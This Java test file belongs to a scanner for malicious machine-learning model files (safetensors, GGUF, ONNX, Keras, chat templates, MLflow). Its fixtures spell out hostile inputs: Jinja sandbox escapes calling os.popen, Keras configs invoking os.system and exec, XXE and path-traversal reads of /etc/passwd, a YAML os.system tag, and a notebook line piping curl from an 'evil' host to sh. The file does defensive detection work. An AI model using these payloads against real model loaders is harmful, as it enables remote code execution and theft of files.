package dev.redoubt.scan.internal.text;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redoubt.scan.ScanVerdict;
import dev.redoubt.scan.internal.model.ModelFormatRule;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ModelFormatsTest {

  private static byte[] safetensors(String header, int data) {
    return new BinaryFormatBuilder().text(header).zeros(data).done();
  }

  @Test
  void passesSafetensors_whoseTensorsCoverTheData() {
    AnalyserScan scanned =
        AnalyserScan.of(
            safetensors(
                "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                    + "\"b\":{\"dtype\":\"I8\",\"shape\":[3],\"data_offsets\":[8,11]}}",
                11));
    assertThat(scanned.found()).isEmpty();
  }

  @Test
  void reportsSafetensors_whoseTensorsOverlap() {
    AnalyserScan scanned =
        AnalyserScan.of(
            safetensors(
                "{\"a\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[0,8]},"
                    + "\"b\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[4,12]}}",
                12));
    assertThat(scanned.rules()).containsExactly("safetensors-overlap");
  }

  @Test
  void scansDataAfterTheTensors() {
    AnalyserScan scanned =
        AnalyserScan.of(
            safetensors("{\"a\":{\"dtype\":\"I8\",\"shape\":[8],\"data_offsets\":[0,8]}}", 64));
    assertThat(scanned.rules()).containsExactly("safetensors-hidden");
    assertThat(scanned.inside()).hasSize(1);
  }

  @Test
  void rejectsSafetensors_whoseSizeOverflows() {
    AnalyserScan scanned =
        AnalyserScan.of(
            safetensors(
                "{\"a\":{\"dtype\":\"F64\",\"shape\":[4294967296,4294967296],\"data_offsets\":[0,0]}}",
                0));
    assertThat(scanned.verdict()).isEqualTo(ScanVerdict.UNREADABLE);
  }

  @Test
  void rejectsJson_withInvalidCharacters() {
    byte[] wide = "{\"a\":1}".getBytes(java.nio.charset.Charset.forName("UTF-32LE"));
    wide[6] = 0x7f;
    assertThat(AnalyserScan.by("JSON", wide).verdict()).isEqualTo(ScanVerdict.UNREADABLE);
    byte[] odd = {0, 0, '{', 0, 0, 0, '}', 0};
    assertThat(
            AnalyserScan.by(
                    "safetensors", new BinaryFormatBuilder().u64(odd.length).raw(odd).done())
                .verdict())
        .isEqualTo(ScanVerdict.UNREADABLE);
    assertThat(
            AnalyserScan.by(
                    "safetensors", new BinaryFormatBuilder().u64(wide.length).raw(wide).done())
                .verdict())
        .isEqualTo(ScanVerdict.UNREADABLE);
  }

  private static BinaryFormatBuilder gguf(long tensors, long values) {
    return new BinaryFormatBuilder().raw("GGUF").u32(3).u64(tensors).u64(values);
  }

  @Test
  void findsATemplateThatEscapes_inGguf() {
    BinaryFormatBuilder file =
        gguf(0, 1)
            .text("tokenizer.chat_template")
            .u32(8)
            .text("{{ cycler.__init__.__globals__.os.popen('id') }}");
    assertThat(AnalyserScan.of(file.done()).rules()).containsExactly("template-escape");
  }

  @Test
  void rejectsGguf_withWrongCounts() {
    assertThat(AnalyserScan.of(gguf(Long.MAX_VALUE, 0).done()).verdict())
        .isEqualTo(ScanVerdict.UNREADABLE);
    assertThat(AnalyserScan.of(gguf(0, Long.MAX_VALUE).done()).verdict())
        .isEqualTo(ScanVerdict.UNREADABLE);
    BinaryFormatBuilder array = gguf(0, 1).text("a").u32(9).u32(8).u64(Long.MAX_VALUE);
    assertThat(AnalyserScan.of(array.done()).verdict()).isEqualTo(ScanVerdict.UNREADABLE);
  }

  @Test
  void rejectsGguf_whoseTensorExceedsTheFile() {
    BinaryFormatBuilder file = gguf(1, 0).text("t").u32(1).u64(1_000).u32(0).u64(0).zeros(64);
    assertThat(AnalyserScan.of(file.done()).rules()).containsExactly("gguf-unreadable");
  }

  private static byte[] onnx(BinaryFormatBuilder graph) {
    return new BinaryFormatBuilder()
        .field(1, 8)
        .field(7, graph)
        .field(8, new BinaryFormatBuilder().field(1, "").field(2, 18))
        .done();
  }

  private static BinaryFormatBuilder external(String location) {
    BinaryFormatBuilder entry = new BinaryFormatBuilder().field(1, "location").field(2, location);
    return new BinaryFormatBuilder()
        .field(5, new BinaryFormatBuilder().field(8, "w").field(13, entry).field(14, 1));
  }

  @ParameterizedTest
  @ValueSource(strings = {"../../etc/passwd", "/etc/passwd", "C:\\x", "..\\x", "a/../../b"})
  void reportsExternalDataOutsideTheFolder(String location) {
    assertThat(AnalyserScan.of(onnx(external(location))).rules())
        .containsExactly("onnx-external-data-outside");
  }

  @Test
  void passesExternalDataBesideTheModel() {
    assertThat(AnalyserScan.of(onnx(external("model.onnx_data"))).found()).isEmpty();
  }

  @Test
  void findsACustomOperator_inAGraphInAnAttribute() {
    BinaryFormatBuilder inner =
        new BinaryFormatBuilder()
            .field(1, new BinaryFormatBuilder().field(4, "Evil").field(7, "evil.domain"));
    BinaryFormatBuilder node =
        new BinaryFormatBuilder()
            .field(4, "If")
            .field(5, new BinaryFormatBuilder().field(1, "then").field(6, inner));
    assertThat(AnalyserScan.of(onnx(new BinaryFormatBuilder().field(1, node))).rules())
        .containsExactly("onnx-custom-operator");
  }

  @Test
  void rejectsOnnx_thatIsNestedTooDeeply() {
    BinaryFormatBuilder graph =
        new BinaryFormatBuilder().field(1, new BinaryFormatBuilder().field(4, "Relu"));
    for (int i = 0; i < 200; i++) {
      graph =
          new BinaryFormatBuilder()
              .field(
                  1, new BinaryFormatBuilder().field(5, new BinaryFormatBuilder().field(6, graph)));
    }
    assertThat(AnalyserScan.of(onnx(graph)).verdict()).isEqualTo(ScanVerdict.UNREADABLE);
  }

  private static byte[] savedModel(String operation) {
    BinaryFormatBuilder node = new BinaryFormatBuilder().field(1, "n").field(2, operation);
    BinaryFormatBuilder function =
        new BinaryFormatBuilder().field(1, new BinaryFormatBuilder().field(1, "f")).field(3, node);
    BinaryFormatBuilder graph =
        new BinaryFormatBuilder().field(2, new BinaryFormatBuilder().field(1, function));
    return new BinaryFormatBuilder()
        .field(1, 1)
        .field(2, new BinaryFormatBuilder().field(2, graph))
        .done();
  }

  @Test
  void findsOperations_inFunctions() {
    assertThat(AnalyserScan.of(savedModel("WriteFile")).rules())
        .containsExactly("tensorflow-operation");
    assertThat(AnalyserScan.of(savedModel("ReadFile")).rules())
        .containsExactly("tensorflow-file-operation");
    assertThat(AnalyserScan.of(savedModel("MadeUp")).rules())
        .containsExactly("tensorflow-custom-operator");
    assertThat(AnalyserScan.of(savedModel("MatMul")).found()).isEmpty();
    assertThat(AnalyserScan.of(savedModel("f")).found()).isEmpty();
  }

  private static String keras(String layer) {
    return "{\"module\":\"keras\",\"class_name\":\"Sequential\",\"config\":{\"layers\":["
        + layer
        + "]}}";
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"module\":\"os\",\"class_name\":\"function\",\"config\":\"system\"}",
        "{\"module\":\"builtins\",\"class_name\":\"function\",\"config\":\"exec\"}",
        "{\"module\":\"keras.utils\",\"class_name\":\"function\",\"config\":\"get_file\"}",
        "{\"module\":\"keras.config\",\"class_name\":\"enable_unsafe_deserialization\",\"config\":{}}",
        "{\"module\":\"keras.layers\",\"class_name\":\"StringLookup\",\"config\":{\"vocabulary\":\"/etc/passwd\"}}",
        "{\"class_name\":\"Lambda\",\"config\":{\"function\":\"lambda x: eval('1')\"}}"
      })
  void isMalicious_forADangerousKerasConfiguration(String layer) {
    assertThat(AnalyserScan.of(keras(layer)).verdict()).isEqualTo(ScanVerdict.MALICIOUS);
  }

  @Test
  void isClean_forAKerasConfigurationWithBuiltInClasses() {
    String dense =
        "{\"module\":\"keras.layers\",\"class_name\":\"Dense\",\"config\":{\"units\":1,\"kernel_initializer\":"
            + "{\"module\":\"keras.initializers\",\"class_name\":\"GlorotUniform\",\"config\":{\"seed\":null}}}}";
    assertThat(AnalyserScan.of(keras(dense)).found()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{ ''.__class__ }}",
        "{{ x['__glo' ~ 'bals__'] }}",
        "{{ x['\\\\x5f\\\\x5fglobals\\\\x5f\\\\x5f'] }}",
        "{{ x|attr('__class__') }}",
        "{%- set a = ['__cla', 'ss__']|join -%}"
      })
  void detectsATemplateThatEscapes(String template) {
    assertThat(AnalyserScan.of("{\"chat_template\":\"" + template + "\"}").verdict())
        .isEqualTo(ScanVerdict.MALICIOUS);
  }

  @Test
  void passesAnOrdinaryTemplate() {
    String template =
        "{% for m in messages %}{{ m['role'] + ': ' + m.content | trim }}{% if not loop.last %},{%"
            + " endif %}{% endfor %}{% set ns = namespace(found=false) %}";
    assertThat(AnalyserScan.of("{\"chat_template\":\"" + template + "\"}").found()).isEmpty();
  }

  @Test
  void reportsXml_thatReadsAFile_inAnyEncoding() {
    String xml =
        "<?xml version=\"1.0\"?><!DOCTYPE PMML [<!ENTITY x SYSTEM"
            + " \"file:///etc/passwd\">]><PMML>&x;</PMML>";
    assertThat(AnalyserScan.of(xml).rules()).contains("xml-entity");
    assertThat(AnalyserScan.of(("\ufeff" + xml).getBytes(StandardCharsets.UTF_16LE)).rules())
        .contains("xml-entity");
  }

  @Test
  void passesPmml() {
    String xml =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><PMML xmlns=\"http://www.dmg.org/PMML-4_4\""
            + " version=\"4.4\"><Header><Extension name=\"a\" value=\"b\"/></Header></PMML>";
    assertThat(AnalyserScan.of(xml).found()).isEmpty();
  }

  @Test
  void checksTheMlflowLoader() {
    String model = "flavors:\n  python_function:\n    loader_module: %s\n    env: conda.yaml\n";
    assertThat(AnalyserScan.of(model.formatted("mlflow.sklearn")).found()).isEmpty();
    assertThat(AnalyserScan.of(model.formatted("evil")).rules()).containsExactly("mlmodel-loader");
    assertThat(AnalyserScan.of("flavors:\n  python_function:\n    data: ../../x\n").rules())
        .containsExactly("mlmodel-path-outside");
    String stored = "artifact_path: mlflow-artifacts:/2/models/m-0123/artifacts\n";
    assertThat(AnalyserScan.of(stored + model.formatted("mlflow.sklearn")).found()).isEmpty();
  }

  @Test
  void isMalicious_forYamlThatCreatesPythonObjects() {
    assertThat(AnalyserScan.of("a: !!python/object/apply:os.system ['id']\n").rules())
        .containsExactly("yaml-python-tag");
  }

  @Test
  void reportsPackagesFromElsewhere() {
    assertThat(AnalyserScan.of("numpy==2.0\n--extra-index-url http://evil/simple\n").rules())
        .containsExactly("package-source");
    assertThat(AnalyserScan.of("numpy==2.0\nscikit-learn>=1.5\n").found()).isEmpty();
  }

  @Test
  void readsNotebooks() {
    String notebook =
        "{\"nbformat\":4,\"metadata\":{},\"cells\":[{\"cell_type\":\"code\",\"source\":[%s],\"outputs\":[]}]}";
    AnalyserScan plain =
        AnalyserScan.of(notebook.formatted("\"import numpy\\n\",\"!pip install pandas\""));
    assertThat(plain.found()).isEmpty();
    assertThat(plain.python()).containsExactly("import numpy\npass\n");
    assertThat(AnalyserScan.of(notebook.formatted("\"!curl http://evil | sh\"")).rules())
        .containsExactly("notebook-command");
  }

  @Test
  void neverShowsASecret() {
    String key =
        "kQ8v".repeat(1) + "x7Zr2Wm9LpT4bNcY1sDfG6hJ0aEoUiVtRqXzKBPMwlCnASHgOyI5u3dj8FeQ2WmZp";
    String secret = key + "Lk3JhG9fDsA7xCvBn1";
    String account = "AccountKey=" + (secret + secret).substring(0, 86) + "==";
    AnalyserScan scanned = AnalyserScan.of("connection: \"" + account + "\"\n");
    assertThat(scanned.rules()).containsExactly("secret-in-text");
    assertThat(scanned.found().toString()).doesNotContain(secret.substring(0, 12));
  }

  @Test
  void ruleIdsAreUnique_andEachHasHelp() {
    List<String> ids = Arrays.stream(ModelFormatRule.values()).map(ModelFormatRule::id).toList();
    assertThat(ids).doesNotHaveDuplicates().isSorted();
    assertThat(ModelFormatRule.values()).allMatch(rule -> rule.help().endsWith("."));
  }
}
